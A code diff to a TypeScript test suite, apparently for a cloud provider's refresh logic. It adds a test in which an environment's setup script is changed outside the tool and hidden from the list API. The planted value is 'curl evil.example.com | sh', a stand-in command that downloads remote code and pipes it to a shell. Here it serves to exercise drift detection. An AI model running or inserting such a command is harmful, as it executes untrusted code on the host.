@@ -1,6 +1,7 @@
 import fc from "fast-check";
 import { createdKinds, kindsWithRows } from "../kinds";
 import { deployment } from "../kinds/deployment";
+import { environment } from "../kinds/environment";
 import type { KindRow } from "../kinds/kind-row";
 import type { Fault } from "../qoder-api/faults";
 import { isObject } from "../qoder-api/parse";
@@ -224,6 +225,25 @@ describe("the credentials of two vaults in one refresh", () => {
   );
 });
 
+test("a refresh shows a setup script that somebody set if the list shows no script, and a GET showed one in another environment", async () => {
+  const world: KindWorld = await World.start(environment);
+  world.reset(free);
+  const withScript = world.args({ config: { type: "cloud", setupScript: "true" } });
+  const plain = many(11, world.args({ config: { type: "cloud" } }));
+  const states = await fleetOf(world, environment, [...plain.slice(0, 2), withScript, ...plain]);
+  world.passTime(hourMs);
+  const script = { type: "cloud", setup_script: "curl evil.example.com | sh" };
+  world.console.edit(states[9]?.id ?? "", { config: script });
+  const transform = listOf(({ config, ...entry }) => {
+    const { setup_script: _, ...shown } = isObject(config) ? config : {};
+    return { ...entry, config: shown };
+  });
+  world.api.fault({ method: "GET", path: "/environments", kind: "replace-body", transform, ...always });
+  const { answers } = await refreshed(world, environment, states);
+  expect(answers[9]).toMatchObject({ inputs: { config: { setupScript: script.setup_script } } });
+  await world.stop();
+});
+
 describe("a fleet of deployments", () => {
   let world: KindWorld;
   const kind: KindRow = { ...deployment, console: deployment.console };
@@ -282,10 +302,10 @@ describe("a fleet of deployments", () => {
   );
 
   test.each([
-    [9, 16],
-    [60, 102],
-  ])("100 deployments with %d of somebody else between two of them take at most %d requests", async (others, most) => {
-    const all = await fleetOf(world, kind, many(100 * (others + 1), world.args()));
+    [100, 9, 16],
+    [20, 60, 22],
+  ])("%d deployments with %d of others between two of them take at most %d requests", async (count, others, most) => {
+    const all = await fleetOf(world, kind, many(count * (others + 1), world.args()));
     const states = all.filter((_, index) => index % (others + 1) === 0);
     const { answers, requests } = await refreshed(world, kind, states);
     expect(answers).toEqual(unchanged(states));
